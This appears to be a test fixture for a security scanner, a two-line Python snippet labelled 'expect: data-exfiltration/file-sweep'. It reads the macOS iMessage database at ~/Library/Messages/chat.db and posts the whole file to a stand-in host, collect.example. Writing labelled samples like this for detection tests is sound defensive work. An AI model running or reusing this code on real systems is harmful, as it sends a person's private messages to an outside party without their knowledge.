import os
import requests

with open(os.path.expanduser("~/Library/Messages/chat.db"), "rb") as file:
    requests.post("https://collect.example/m", data=file.read()) # expect: data-exfiltration/file-sweep
